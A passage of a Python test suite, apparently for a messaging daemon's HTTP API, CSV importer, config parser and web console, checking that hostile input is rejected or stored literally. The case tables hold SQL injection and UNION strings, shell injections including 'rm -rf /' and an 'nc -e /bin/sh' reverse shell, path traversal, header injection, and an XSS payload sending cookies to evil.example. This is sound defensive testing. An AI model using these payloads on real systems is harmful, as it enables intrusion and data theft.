            r, _, _ = select.select([s], [], [], 0.4)
            if r:
                try:
                    got = s.recv(4096)
                except OSError:
                    got = b""
                # closed, or answered an error (408 and the like)
                closed_after = time.monotonic() - t0
                t.assertNotEqual(parse_raw_status(got), 200, got[:200])
                break
            if not checked_other and time.monotonic() - t0 > 1.0:
                checked_other = True
                t.assertStatus(d.get("/v1/status", timeout=5), 200,
                               "while a slowloris client is connected")
            if time.monotonic() - t0 > limit:
                break
    finally:
        s.close()
    t.assertIsNotNone(closed_after, "a client sending one header byte "
                      "every 0.4 s was kept %d s with [api] timeout = %ds"
                      % (limit, API_TIMEOUT_S))
    t.assertLessEqual(closed_after, 2 * API_TIMEOUT_S + 1.5)


def case_idle_timeout(t, d):
    """An idle connection is closed after [api] timeout (2 s)."""
    t0 = time.monotonic()
    got = d.raw(b"GET /v1/status HTTP/1.1\r\nHost: x\r\n", timeout=10.0)
    took = time.monotonic() - t0
    t.assertNotEqual(parse_raw_status(got), 200)
    t.assertLess(took, API_TIMEOUT_S + 3, "idle connection kept %.1f s" % took)


def case_pipelined(t, d):
    """100 pipelined requests on one connection all get an answer."""
    n = 100
    req = b"GET /v1/status HTTP/1.1\r\nHost: x\r\n\r\n"
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(5)
    s.connect(d.socket_path)
    got = b""
    try:
        s.sendall(req * (n - 1) + b"GET /v1/status HTTP/1.1\r\nHost: x\r\n"
                  b"Connection: close\r\n\r\n")
        while True:
            b = s.recv(65536)
            if not b:
                break
            got += b
    except OSError:
        pass
    finally:
        s.close()
    t.assertEqual(got.count(b"HTTP/1.1 200 "), n, got[-300:])


API_SPECIAL = [
    Fn("SQL metacharacters stored verbatim", case_sql_verbatim),
    Fn("LIKE wildcards in q", case_like_wildcards),
    Fn("shell metacharacters stored verbatim", case_shell_verbatim),
    Fn("emoji and RTL overrides in a household", case_emoji_rtl_household),
    Fn("emoji and RTL overrides in a broadcast", case_emoji_rtl_broadcast),
    Fn("hostile idempotency key", case_idempotency_key_hostile),
    Fn("NUL after an id in the path", case_nul_truncated_id),
    Fn("Content-Length larger than sent, then close",
       case_short_body_then_close),
    Fn("chunked body above max_body", case_chunked_over_max_body),
    Fn("huge chunk size", case_huge_chunk_size),
    Fn("raw invalid bytes in the request line",
       case_raw_bytes_in_request_line),
    Fn("1000 connections opened and dropped", case_1000_connections),
    Fn("connection storm from 50 threads", case_connection_storm_threads),
    Fn("slowloris", case_slowloris),
    Fn("idle connection timeout", case_idle_timeout),
    Fn("100 pipelined requests", case_pipelined),
]


# ---------------------------------------------------------------------------
# CSV import cases
#
# Csv(name, body, expect, fields=(), check=None, group="2A")
#   check(testcase, daemon, response) for what the table cannot say.

class Csv:
    def __init__(self, name, body, expect, fields=(), check=None,
                 group="2A", created=0):
        self.name, self.body, self.fields = name, body, fields
        self.check, self.group, self.created = check, group, created
        self.expect = expect if isinstance(expect, list) else [expect]


def csv_rows(rows, header="ho_ten,so_dien_thoai", sep=","):
    return (header + "\n" + "\n".join(sep.join(r) for r in rows) + "\n")


def check_msg(*words):
    """The error message names all the words (case-insensitively)."""
    def check(t, d, r):
        msg = r.body["error"]["message"].lower()
        for w in words:
            t.assertIn(w.lower(), msg, r)
    return check


def check_report(rows, created=0, rejected=0, codes=None, lines=None):
    def check(t, d, r):
        rep = r.body
        t.assertEqual((rep["rows"], rep["created"], len(rep["rejected"])),
                      (rows, created, rejected), str(rep)[:2000])
        if codes is not None:
            t.assertEqual({x["code"] for x in rep["rejected"]}, set(codes),
                          str(rep["rejected"][:5]))
        if lines is not None:
            t.assertEqual([x["line"] for x in rep["rejected"]], lines)
    return check


def utf16(text, bom=True, be=False):
    enc = "utf-16-be" if be else "utf-16-le"
    pre = (b"\xfe\xff" if be else b"\xff\xfe") if bom else b""
    return pre + text.encode(enc)


VN_CSV = csv_rows([["Nguyễn Văn An", "0912 345 678"],
                   ["Trần Thị Bích", "0903 555 101"]])
WIDE = 100000


def all_bad_phones(n):
    return ("ho_ten,so_dien_thoai\n" +
            "".join("Hộ %d,028 %04d %04d\n" % (i, i // 10000, i % 10000)
                    for i in range(n))).encode("utf-8")


CSV_CASES = [
    Csv("binary garbage",
        bytes(random.Random(7).randrange(256) for _ in range(64 * KiB)),
        (400, "bad_request"), check=check_msg("utf-8")),
    Csv("all 256 byte values", bytes(range(256)) * 16, (400, "bad_request")),
    Csv("UTF-16 LE with BOM", utf16(VN_CSV), (400, "bad_request"),
        check=check_msg("utf-8")),
    Csv("UTF-16 BE with BOM", utf16(VN_CSV, be=True), (400, "bad_request"),
        check=check_msg("utf-8")),
    Csv("UTF-16 LE without BOM, ASCII only",
        utf16("ho_ten,sdt\nAn,0912345678\n", bom=False),
        [(400, "bad_request"), (422, "validation_failed")],
        check=check_msg("utf")),
    Csv("Latin-1", "name,phone\nLê Văn,0912345678\n".encode("latin-1",
                                                             "replace"),
        (400, "bad_request"), check=check_msg("utf-8")),
    Csv("Windows-1258", VN_CSV.encode("cp1258", "replace"),
        (400, "bad_request"), check=check_msg("utf-8", "line 2")),
    Csv("only separators", b",,,,,\n;;;;;\n,,,,,\n",
        (422, "validation_failed"), fields=[("header", None)]),
    Csv("only newlines and separators, with BOM",
        "\ufeff;;;\r\n\r\n,\r\n", (422, "validation_failed")),
    Csv("100000 columns, none known",
        ",".join("c%d" % i for i in range(WIDE)) + "\n1,2\n",
        (422, "validation_failed")),
    Csv("100000 columns after name and phone",
        "ho_ten,sdt," + ",".join("c%d" % i for i in range(WIDE)) +
        "\nAn,0977111001\n",
        [(422, "validation_failed"), (200, None)], created=None),
    Csv("5 MB single field", "ho_ten,sdt\n" + "N" * (5 * MiB) +
        ",0977111002\nBình,0977111003\n", [(200, None),
                                          (422, "validation_failed")],
        created=None),
    Csv("5 MB quoted field with newlines", "ho_ten,sdt\n\"" +
        "ab\n" * (5 * MiB // 3) + "\",0977111004\n",
        [(200, None), (422, "validation_failed")], created=None),
    Csv("unterminated quote at EOF",
        "ho_ten,sdt\nAn,0977111005\n\"Bình,0977111006\n",
        [(200, None), (422, "validation_failed")], created=None),
    Csv("NUL bytes in cells",
        b"ho_ten,sdt\nNguy\x00n,0977111007\nAn,0977\x00111008\n",
        [(200, None), (400, "bad_request")], created=0,
        check=lambda t, d, r: r.status != 200 or check_report(
            2, 0, 2, codes={"control_chars"})(t, d, r)),
    Csv("NUL byte in the header", b"ho_ten\x00,sdt\nAn,0977111009\n",
        [(422, "validation_failed"), (400, "bad_request"), (200, None)],
        created=None),
    Csv("CR-only line endings",
        "ho_ten,sdt\rAn,0977111010\rBình,0977111011\r",
        [(200, None), (422, "validation_failed")], created=None),
    Csv("10000 rows of landlines",
        all_bad_phones(10000), (200, None),
        check=check_report(10000, 0, 10000, codes={"landline"},
                           lines=list(range(2, 10002)))),
    Csv("duplicate header names", "ho_ten,sdt,ho_ten\nAn,0977111012,Ba\n",
        (422, "validation_failed"), fields=[("header", "duplicate_column")]),
    Csv("two phone columns are both read", "ho_ten,sdt,sdt\nAn,0977111013,"
        "0977111019\n", (200, None), created=1,
        check=lambda t, d, r: t.assertEqual(
            d.get(H + "?q=977111019").body["households"][0]["phones"],
            ["+84977111013", "+84977111019"])),
    Csv("two aliases of one column", "name,ho_ten,phone\nA,B,0977111014\n",
        (422, "validation_failed"), fields=[("header", "duplicate_column")]),
    Csv("SQL in the group column",
        csv_rows([[SQL, "An", "0977111015"]], "nhom,ho_ten,sdt"),
        (200, None), check=check_report(1, 0, 1, codes={"unknown_group"})),
    Csv("traversal as the default group",
        "ho_ten,sdt\nAn,0977111016\n", (422, "validation_failed"),
        fields=[("group", "unknown_group")], group="../../etc/passwd"),
    Csv("10000 numbers in one phone cell",
        "ho_ten,sdt\n\"An\",\"" + "/".join("0977%06d" % i
                                          for i in range(200000, 210000)) +
        "\"\n", [(200, None), (422, "validation_failed")], created=None),
    Csv("quote in the middle of a field",
        "ho_ten,sdt\nAn \"Ba\" Tư,0977111017\n",
        [(200, None), (422, "validation_failed")], created=None),
    Csv("terminal escapes in a name",
        "ho_ten,sdt\n\x1b[2J\x1b]0;pwned\x07An,0977111018\n", (200, None),
        check=check_report(1, 0, 1, codes={"control_chars"})),
]


# ---------------------------------------------------------------------------
# Config files: loaxad --config F --check-config must exit 1 with
# "F:LINE: message" on stderr, or 0 where noted.
#
# Conf(name, content, line, substring, rc=1); line None: "F: message",
# "*": any line.

class Conf:
    def __init__(self, name, content, line, needle, rc=1):
        self.name, self.content = name, content
        self.line, self.needle, self.rc = line, needle, rc


BASE = "[daemon]\nstate_dir = /var/lib/loaxa\n"


CONF_CASES = [
    Conf("binary garbage",
         bytes(random.Random(3).randrange(1, 256) for _ in range(4096)),
         "*", ""),
    Conf("NUL in binary", b"\x00\x01\x02\xff\xfe\n[daemon]\n", 1, "NUL"),
    Conf("2 MB file", "; comment\n" * (2 * MiB // 10), None, "too large"),
    Conf("10000-character line", BASE + "database = /" + "a" * 10000 + "\n",
         3, "too long"),
    Conf("10000-character comment line is fine",
         BASE + ";" + "x" * 10000 + "\n", None, "", rc=0),
    Conf("NUL in a value", BASE.encode() + b"log_level = info\x00debug\n",
         3, "NUL"),
    Conf("invalid UTF-8 in a group name",
         b"[groups]\n2A = Nh\xf3m 2A\n", 2, "UTF-8"),
    Conf("unknown section", BASE + "[evil]\nx = 1\n", 3, "unknown section"),
    Conf("duplicate section", BASE + "[api]\n[daemon]\n", 4,
         "duplicate section"),
    Conf("duplicate key", BASE + "state_dir = /tmp\n", 3, "duplicate key"),
    Conf("duplicate group code (case)", "[groups]\n2A = a\n2a = b\n", 3,
         "2a"),
    Conf("shell command as a path", BASE + "database = $(reboot)\n", 3,
         "absolute"),
    Conf("backticks as a path", "[api]\nsocket = `id`.sock\n", 2,
         "absolute"),
    Conf("shell metacharacters in an absolute path are taken literally",
         "[daemon]\nstate_dir = /nonexistent/$(touch @SENTINEL@)/`id`;|&\n",
         None, "", rc=0),
    Conf("negative size", "[api]\nmax_body = -1\n", 2, "max_body"),
    Conf("negative count", "[api]\nmax_connections = -5\n", 2,
         "max_connections"),
    Conf("1e999 size", "[api]\nmax_body = 1e999\n", 2, "max_body"),
    Conf("1e999 duration", "[api]\ntimeout = 1e999\n", 2, "timeout"),
    Conf("2^64 connections", "[api]\nmax_connections = 18446744073709551616\n",
         2, "max_connections"),
    Conf("size overflow", "[api]\nmax_body = 99999999999999999999G\n", 2,
         "max_body"),
    Conf("driver with SQL", "[channel.x]\ndriver = '; DROP TABLE x\n", 2,
         "driver"),
    Conf("channel name traversal", "[channel.../../etc]\ndriver = esms\n", 1,
         ""),
    Conf("empty section name", "[]\nx = 1\n", 1, ""),
    Conf("group code with SQL", "[groups]\n'; DROP TABLE groups; -- = x\n",
         2, ""),
    Conf("unclosed brace in a template", "[templates]\nmeeting = Mời {name\n",
         2, "{"),
    Conf("stray closing brace in a template",
         "[templates]\nnotice = Thông báo} {title}\n", 2, "}"),
    Conf("unknown placeholder", "[templates]\nnotice = {$(reboot)}\n", 2,
         "notice"),
    Conf("a key with no value separator", BASE + "rm -rf /\n", 3, ""),
    Conf("rate 1e999",
         "[channel.x]\ndriver = esms\nurl = https://x/\nrate = 1e999\n", 4,
         "rate"),
    Conf("UTF-8 BOM at the start is accepted", "\ufeff" + BASE, None, "",
         rc=0),
    Conf("UTF-8 BOM twice", "\ufeff\ufeff" + BASE, 1, ""),
]


# ---------------------------------------------------------------------------
# Webhook payloads
#
# TODO(webhooks): loaxad has no webhook listener yet (include/loaxa/
# webhooks.h is only a header). When it exists, add a WEBHOOK_CASES table
# here, run like API_CASES against the listener, with at least: truncated
# JSON, 10000 nested arrays, a 10 MB payload (413), wrong types for every
# field of each provider's delivery report (Zalo ZNS user_received_message,
# eSMS callback, Twilio status callback form body, Messenger delivery/read
# events), duplicate keys, invalid UTF-8, a bad or missing signature
# (X-ZEvent-Signature, X-Hub-Signature-256, X-Twilio-Signature) -> 401/403,
# a replayed event (same msg_id twice: counted once), an unknown msg_id
# (ignored, 200), a report for another OA/page id, and SQL/shell
# metacharacters in msg_id and status text (stored verbatim or ignored).
# This is a TODO list, deliberately not a skipped test.


# ---------------------------------------------------------------------------
# Console cases (issue #7): the console's forms (login, users, households,
# broadcasts), its session cookie and CSRF header, bearer tokens, and its
# static files, against a daemon that also listens on 127.0.0.1 (where the
# console and /v1/login live; [api] max_body = CONSOLE_MAX_BODY, [console]
# login_attempts high so that failed logins of one case do not hold back
# another; the limiter has its own daemon and table below).
#
# Users are made over the unix socket by the system admin: an (admin), lan
# (official), minh (manager of 2A), hoa (manager of 2B), tuan and vy
# (officials whose tokens and sessions get revoked); an, lan and minh are
# logged in (sessions "admin", "official", "manager"), minh has a personal
# token, and there is a household in 2A ("a2") and one in 2B ("b2").
#
# CReq(name, who, method, path, body=None, expect=..., fields=(),
#      headers=None, csrf=CSRF_OK, check=None)
#   who:     "anon" (TCP, no credentials), "unix" (the unix socket as the
#            system admin), or a session: "admin", "official", "manager"
#            (TCP, cookie loaxa_session, X-CSRF-Token on writes).
#   path, headers, csrf: a value, or a callable taking the Console
#            context (for ids, cookies and tokens known at run time);
#            a header whose value is None is left out.
#   csrf:    CSRF_OK (the session's own token on writes), None (no header)
#            or the header's value.
#   fields:  as in Req; also checked for 422 "invalid" (users, login).
#   check:   check(testcase, console, response) for what the table cannot
#            say.
# Every answer of 400 and above must carry no secret (password, session,
# CSRF or bearer token) and no Set-Cookie other than one that clears.

CONSOLE_MAX_BODY = "512K"
CONSOLE_ATTEMPTS = 1000       # [console] login_attempts of the forms daemon
LIMIT_ATTEMPTS = 3            # ... of the limiter's daemon
PW = "correct horse battery"
CSRF_OK = object()
U_ = "/v1/users"
LOGIN = "/v1/login"
ME = "/v1/me"


class CReq(Req):
    def __init__(self, name, who, method, path, body=None,
                 expect=(400, "bad_json"), fields=(), headers=None,
                 csrf=CSRF_OK, check=None):
        super().__init__(name, method, path, body, expect, fields, headers)
        self.who, self.csrf, self.check = who, csrf, check


def UV(*fields):
    """422 invalid (users, tokens, login, log) with these fields."""
    return dict(expect=(422, "invalid"), fields=list(fields))


def login(user=None, password=None, **kw):
    b = {}
    if user is not None:
        b["user"] = user
    if password is not None:
        b["password"] = password
    b.update(kw)
    return b


def newuser(**kw):
    b = {"name": "nguoi-moi", "role": "official", "password": PW}
    b.update(kw)
    return b


def ck(raw):
    """A Cookie header (a function of the context) holding raw."""
    return lambda cx: {"Cookie": raw(cx) if callable(raw) else raw}


def no_passwd(t, cx, r):
    """No file outside the console came back."""
    for mark in (b"root:x:0:0", b"root:*:", b"[core]", b"project(",
                 b"LOAXA", b"PATH="):
        t.assertNotIn(mark, r.raw, r)


def no_echo(secret):
    """The answer does not quote this part of a password."""
    def check(t, cx, r):
        t.assertNotIn(secret.encode(), r.raw, r)
    return check


def is_me(name):
    def check(t, cx, r):
        t.assertEqual(r.body["user"]["name"], name, r)
    return check


def is_system_admin(t, cx, r):
    t.assertEqual((r.body["user"]["id"], r.body["user"]["role"]),
                  (0, "admin"), r)
    t.assertIsNone(r.body["csrf"], r)


def clears_cookie(t, cx, r):
    sc = r.headers.get("set-cookie", "")
    t.assertIn("loaxa_session=;", sc, r)
    t.assertIn("Max-Age=0", sc, r)


def no_header_injected(t, cx, r):
    t.assertNotIn("x-injected", r.headers, r)
    t.assertNotIn("set-cookie", r.headers, r)


def asset(name, ctype):
    """The console's file name came back, not an echo of the query."""
    def check(t, cx, r):
        t.assertTrue(r.headers.get("content-type", "").startswith(ctype), r)
        t.assertIn("default-src 'self'",
                   r.headers.get("content-security-policy", ""), r)
        t.assertEqual(r.headers.get("x-content-type-options"), "nosniff")
        t.assertNotIn(b"<script>alert", r.raw)
        t.assertEqual(r.raw, cx.d.get("/" + name, tcp=True).raw)
    return check


def hh_path(key, suffix=""):
    return lambda cx: H + "/%d%s" % (cx.ids[key], suffix)


XSS = "<script>alert(document.cookie)</script>"
XSS2 = "<img src=x onerror=\"fetch('//evil.example/?'+document.cookie)\">"
XSS3 = "</textarea><svg/onload=alert(1)>{{7*7}}${7*7}"
SQL_LOGIN = "' OR 1=1 --"
LONG = 100 * KiB
M = "manager"

CONSOLE_CASES = [
    # ---- POST /v1/login: types, fields ----
    CReq("login: user is a number", "anon", "POST", LOGIN,
         login(42, PW), **UV(("user", "wrong_type"))),
    CReq("login: user is an array", "anon", "POST", LOGIN,
         login(["lan"], PW), **UV(("user", "wrong_type"))),
    CReq("login: user is an object", "anon", "POST", LOGIN,
         login({"name": "lan"}, PW), **UV(("user", "wrong_type"))),
    CReq("login: user is true", "anon", "POST", LOGIN,
         login(True, PW), **UV(("user", "wrong_type"))),
    CReq("login: password is null", "anon", "POST", LOGIN,
         {"user": "lan", "password": None},
         **UV(("password", "required"))),
    CReq("login: password is a number", "anon", "POST", LOGIN,
         login("lan", 1234567890), **UV(("password", "wrong_type"))),
    CReq("login: password is an array", "anon", "POST", LOGIN,
         login("lan", [PW]), **UV(("password", "wrong_type"))),
    CReq("login: no user", "anon", "POST", LOGIN, login(password=PW),
         **UV(("user", "required"))),
    CReq("login: no password", "anon", "POST", LOGIN, login("lan"),
         **UV(("password", "required"))),
    CReq("login: empty object", "anon", "POST", LOGIN, {},
         **UV(("user", "required"))),
    CReq("login: no body", "anon", "POST", LOGIN, b""),
    CReq("login: an array body", "anon", "POST", LOGIN, b'["lan", "x"]'),
    CReq("login: null body", "anon", "POST", LOGIN, b"null"),
    CReq("login: 10000 nested arrays as the user", "anon", "POST", LOGIN,
         lambda: b'{"user": ' + nested(10000) + b', "password": "x"}',
         [(400, "bad_json"), (422, "invalid")]),
    # ---- login: sizes ----
    CReq("login: 1 MB body above max_body", "anon", "POST", LOGIN,
         lambda: login("a" * MiB, PW), (413, "too_large")),
    CReq("login: 100 KB name", "anon", "POST", LOGIN,
         lambda: login("a" * LONG, PW), (401, "bad_login")),
    CReq("login: 100 KB password of a real user", "anon", "POST", LOGIN,
         lambda: login("lan", "p" * LONG), (401, "bad_login")),
    CReq("login: 65-character name", "anon", "POST", LOGIN,
         login("l" * 65, PW), (401, "bad_login")),
    CReq("login: empty name", "anon", "POST", LOGIN, login("", PW),
         (401, "bad_login")),
    CReq("login: empty password", "anon", "POST", LOGIN, login("lan", ""),
         (401, "bad_login")),
    # ---- login: encodings ----
    CReq("login: invalid UTF-8 in the name", "anon", "POST", LOGIN,
         b'{"user": "l\xe2n", "password": "x"}', (400, "bad_request")),
    CReq("login: invalid UTF-8 in the password", "anon", "POST", LOGIN,
         b'{"user": "lan", "password": "\xff\xfe\xfd"}',
         (400, "bad_request")),
    CReq("login: overlong '/' in the name", "anon", "POST", LOGIN,
         b'{"user": "..\xc0\xafan", "password": "x"}', (400, "bad_request")),
    CReq("login: NUL cuts a real name (\\u0000)", "anon", "POST", LOGIN,
         login("lan\u0000junk", PW), **UV(("user", "invalid"))),
    CReq("login: NUL after the right password", "anon", "POST", LOGIN,
         login("lan", PW + "\u0000junk"), **UV(("password", "invalid"))),
    CReq("login: %00 in the name is text", "anon", "POST", LOGIN,
         login("lan%00", PW), (401, "bad_login")),
    CReq("login: Vietnamese name", "anon", "POST", LOGIN,
         login("Lân", PW), (401, "bad_login")),
    CReq("login: CR LF and a header in the name", "anon", "POST", LOGIN,
         login("lan\r\nX-Injected: 1\r\nSet-Cookie: loaxa_session=x", PW),
         (401, "bad_login"), check=no_header_injected),
    # ---- login: SQL and shell ----
    CReq("login: SQL in the name", "anon", "POST", LOGIN,
         login(SQL_LOGIN, "x"), (401, "bad_login")),
    CReq("login: SQL comment after a real name", "anon", "POST", LOGIN,
         login("lan' --", "anything"), (401, "bad_login")),
    CReq("login: SQL with double quotes", "anon", "POST", LOGIN,
         login('lan" OR ""="', "x"), (401, "bad_login")),
    CReq("login: SQL as the password of a real user", "anon", "POST", LOGIN,
         login("lan", "' OR '1'='1"), (401, "bad_login")),
    CReq("login: UNION in the name", "anon", "POST", LOGIN,
         login("x' UNION SELECT pw_hash FROM users --", "x"),
         (401, "bad_login")),
    CReq("login: shell in the name", "anon", "POST", LOGIN,
         login("$(reboot)", "`id`"), (401, "bad_login")),
    CReq("login: shell pipes in the name", "anon", "POST", LOGIN,
         login("; rm -rf / # | nc -e /bin/sh 1.2.3.4 9", "x"),
         (401, "bad_login")),
    # ---- login: syntax and content types ----
    CReq("login: duplicate user keys", "anon", "POST", LOGIN,
         b'{"user": "nobody", "user": "lan", "password": "%s"}'
         % PW.encode()),
    CReq("login: duplicate password keys", "anon", "POST", LOGIN,
         b'{"user": "lan", "password": "x", "password": "%s"}'
         % PW.encode()),
    CReq("login: truncated JSON", "anon", "POST", LOGIN,
         b'{"user": "lan", "passw'),
    # The bad_json message once quoted jansson's text "near" the error:
    # here the start of the password, shown on the console's screen.
    CReq("login: truncated in the password", "anon", "POST", LOGIN,
         b'{"user": "lan", "password": "correct hor',
         check=no_echo("correct hor")),
    CReq("login: a tab in the password", "anon", "POST", LOGIN,
         b'{"user": "lan", "password": "correct\thorse battery"}',
         check=no_echo("correct")),
    CReq("login: single quotes", "anon", "POST", LOGIN,
         b"{'user': 'lan', 'password': 'x'}"),
    CReq("login: a form-encoded body", "anon", "POST", LOGIN,
         b"user=lan&password=correct+horse+battery",
         (415, "unsupported_media_type"),
         headers={"Content-Type": "application/x-www-form-urlencoded"}),
    CReq("login: a multipart body", "anon", "POST", LOGIN,
         b"--b\r\nContent-Disposition: form-data; name=\"user\"\r\n\r\nlan"
         b"\r\n--b--\r\n", (415, "unsupported_media_type"),
         headers={"Content-Type": "multipart/form-data; boundary=b"}),
    # A cross-site form can post text/plain without a preflight: a login
    # must be JSON (login CSRF), even with a right password.
    CReq("login: JSON sent as text/plain", "anon", "POST", LOGIN,
         lambda: jbytes(login("lan", PW)), (415, "unsupported_media_type"),
         headers={"Content-Type": "text/plain"}),
    CReq("login: no Content-Type", "anon", "POST", LOGIN,
         lambda: jbytes(login("lan", PW)), (415, "unsupported_media_type"),
         headers={"Content-Type": ""}),
    CReq("login: application/jsonx", "anon", "POST", LOGIN,
         lambda: jbytes(login("lan", PW)), (415, "unsupported_media_type"),
         headers={"Content-Type": "application/jsonx"}),
    CReq("login: Latin-1 declared, Latin-1 sent", "anon", "POST", LOGIN,
         '{"user": "lân", "password": "x"}'.encode("latin-1"),
         (400, "bad_request"),
         headers={"Content-Type": "application/json; charset=latin-1"}),
    CReq("login: GET", "anon", "GET", LOGIN,
         expect=(405, "method_not_allowed")),
    CReq("login: DELETE", "anon", "DELETE", LOGIN,
         expect=(405, "method_not_allowed")),
    CReq("login: on the unix socket", "unix", "POST", LOGIN,
         login("lan", PW), (404, "not_found")),
    CReq("login: a garbage session cookie does not matter", "anon", "POST",
         LOGIN, login("lan", "wrong password"), (401, "bad_login"),
         headers={"Cookie": "loaxa_session=garbage"}),
    # ---- the session cookie ----
    CReq("cookie: garbage", "anon", "GET", ME,
         expect=(401, "unauthorized"),
         headers={"Cookie": "loaxa_session=garbage"}, check=clears_cookie),
    CReq("cookie: empty value", "anon", "GET", ME,
         expect=(401, "unauthorized"), headers={"Cookie": "loaxa_session="}),
    CReq("cookie: SQL", "anon", "GET", ME, expect=(401, "unauthorized"),
         headers={"Cookie": "loaxa_session=' OR 1=1 --"}),
    # libmicrohttpd parses cookies into the connection's memory pool
    # after the headers: with a 16 KiB pool a cookie of 8 KB was cut with
    # no answer. The pool is larger now and loaxad checks the 16 KiB.
    CReq("cookie: 8 KB", "anon", "GET", ME, expect=(401, "unauthorized"),
         headers={"Cookie": "loaxa_session=lxs_" + "A" * (8 * KiB)}),
    CReq("cookie: 20 KB (above the header limit)", "anon", "GET", ME,
         expect=(431, None),
         headers={"Cookie": "loaxa_session=lxs_" + "A" * (20 * KiB)}),
    CReq("cookie: a valid one but the last character", "anon", "GET", ME,
         expect=(401, "unauthorized"),
         headers=ck(lambda cx: "loaxa_session=" + cx.cookie[M][:-1])),
    CReq("cookie: a valid one in upper case", "anon", "GET", ME,
         expect=(401, "unauthorized"),
         headers=ck(lambda cx: "loaxa_session=" + cx.cookie[M].upper())),
    # libmicrohttpd looks cookie names up ignoring case: the same session
    # either way, nothing gained.
    CReq("cookie: the name in upper case", "anon", "GET", ME,
         expect=[(401, "unauthorized"), (200, None)],
         headers=ck(lambda cx: "LOAXA_SESSION=" + cx.cookie[M])),
    CReq("cookie: the static token as a session", "anon", "GET", ME,
         expect=(401, "unauthorized"),
         headers={"Cookie": "loaxa_session=" + harness.Daemon.TOKEN}),
    CReq("cookie: a personal token as a session", "anon", "GET", ME,
         expect=(401, "unauthorized"),
         headers=ck(lambda cx: "loaxa_session=" + cx.token[M])),
    CReq("cookie: the CSRF token as a session", "anon", "GET", ME,
         expect=(401, "unauthorized"),
         headers=ck(lambda cx: "loaxa_session=" + cx.csrf[M])),
    # Once 431 from 200 cookies (2 KB) on; see "cookie: 8 KB".
    CReq("cookie: 300 other cookies, then a valid one", "anon", "GET", ME,
         expect=(200, None), check=is_me("minh"),
         headers=ck(lambda cx: "; ".join(["c%d=v%d" % (i, i)
                                          for i in range(300)]) +
                    "; loaxa_session=" + cx.cookie[M])),
    CReq("cookie: duplicated, garbage first", "anon", "GET", ME,
         expect=[(200, None), (401, "unauthorized")],
         headers=ck(lambda cx: "loaxa_session=garbage; loaxa_session=" +
                    cx.cookie[M])),
    CReq("cookie: duplicated, valid first", "anon", "GET", ME,
         expect=[(200, None), (401, "unauthorized")],
         headers=ck(lambda cx: "loaxa_session=" + cx.cookie[M] +
                    "; loaxa_session=garbage")),
    CReq("cookie: two valid sessions of two users", "anon", "GET", ME,
         expect=[(200, None), (401, "unauthorized")],
         headers=ck(lambda cx: "loaxa_session=" + cx.cookie[M] +
                    "; loaxa_session=" + cx.cookie["admin"]),
         check=lambda t, cx, r: r.status != 200 or t.assertIn(
             r.body["user"]["name"], ("minh", "an"))),
    CReq("cookie: quoted value", "anon", "GET", ME,
         expect=[(200, None), (401, "unauthorized")],
         headers=ck(lambda cx: 'loaxa_session="%s"' % cx.cookie[M])),
    CReq("cookie: raw bytes", "anon", "GET", ME,
         expect=(401, "unauthorized"),
         headers={"Cookie": b"loaxa_session=\xff\xfe\x80lxs_"}),
    # ---- CSRF ----
    CReq("csrf: POST without the header", "official", "POST", H,
         lambda: hh(), (403, "csrf"), csrf=None),
    CReq("csrf: POST with an empty header", "official", "POST", H,
         lambda: hh(), (403, "csrf"), csrf=""),
    CReq("csrf: POST with a wrong header", "official", "POST", H,
         lambda: hh(), (403, "csrf"), csrf="lxc_nope"),
    CReq("csrf: POST with another session's token", "official", "POST", H,
         lambda: hh(), (403, "csrf"), csrf=lambda cx: cx.csrf[M]),
    CReq("csrf: POST with the session id as the token", "official", "POST",
         H, lambda: hh(), (403, "csrf"),
         csrf=lambda cx: cx.cookie["official"]),
    CReq("csrf: POST with the token in upper case", "official", "POST", H,
         lambda: hh(), (403, "csrf"),
         csrf=lambda cx: cx.csrf["official"].upper()),
    CReq("csrf: POST with the token and one more character", "official",
         "POST", H, lambda: hh(), (403, "csrf"),
         csrf=lambda cx: cx.csrf["official"] + "x"),
    CReq("csrf: POST with a 10 KB token", "official", "POST", H,
         lambda: hh(), (403, "csrf"), csrf="lxc_" + "x" * (10 * KiB)),
    CReq("csrf: the token in the query instead", "official", "POST",
         lambda cx: H + "?csrf=" + quote(cx.csrf["official"]),
         lambda: hh(), (403, "csrf"), csrf=None),
    CReq("csrf: the token as a cookie instead", "official", "POST", H,
         lambda: hh(), (403, "csrf"), csrf=None,
         headers=ck(lambda cx: "loaxa_session=%s; X-CSRF-Token=%s" % (
             cx.cookie["official"], cx.csrf["official"]))),
    CReq("csrf: the token in the body instead", "official", "POST", H,
         lambda: hh(csrf="lxc_from_the_body"), (403, "csrf"), csrf=None),
    CReq("csrf: PATCH a user without the header", "admin", "PATCH",
         U_ + "/minh", {"display_name": "csrf"}, (403, "csrf"), csrf=None),
    CReq("csrf: PATCH with a wrong header", "admin", "PATCH", U_ + "/minh",
         {"display_name": "csrf"}, (403, "csrf"), csrf="0"),
    CReq("csrf: DELETE a group without the header", "admin", "DELETE",
         "/v1/groups/nam-ha", expect=(403, "csrf"), csrf=None),
    CReq("csrf: DELETE a token with an empty header", "admin", "DELETE",
         U_ + "/an/tokens/1", expect=(403, "csrf"), csrf=""),
    CReq("csrf: PUT /v1/log without the header", "admin", "PUT", "/v1/log",
         {"level": "debug"}, (403, "csrf"), csrf=None),
    CReq("csrf: a broadcast without the header", "manager", "POST", B,
         meeting(groups=["2A"]), (403, "csrf"), csrf=None),
    CReq("csrf: an import without the header", "manager", "POST",
         "/v1/import?group=2A", b"ho_ten,sdt\nAn,0977500001\n",
         (403, "csrf"), csrf=None, headers=CSV_CT),
    CReq("csrf: TRACE with a session needs the header too", "admin",
         "TRACE", "/v1/status", expect=(403, "csrf"), csrf=None),
    CReq("csrf: GET needs no header", "manager", "GET", ME,
         expect=(200, None), check=is_me("minh")),
    # ---- the unix socket ignores cookies ----
    CReq("unix: a manager's cookie is ignored", "unix", "GET", ME,
         expect=(200, None), check=is_system_admin,
         headers=ck(lambda cx: "loaxa_session=" + cx.cookie[M])),
    CReq("unix: a garbage cookie is ignored", "unix", "GET", ME,
         expect=(200, None), check=is_system_admin,
         headers={"Cookie": "loaxa_session=garbage"}),
    CReq("unix: a write with a cookie and no CSRF header", "unix", "POST",
         P, meeting(groups=["2B"]), (200, None),
         headers=ck(lambda cx: "loaxa_session=" + cx.cookie[M])),
    CReq("unix: a garbage bearer token", "unix", "GET", ME,
         expect=(401, "unauthorized"),
         headers={"Authorization": "Bearer garbage"}),
    CReq("unix: a Basic authorization is ignored", "unix", "GET", ME,
         expect=(200, None), check=is_system_admin,
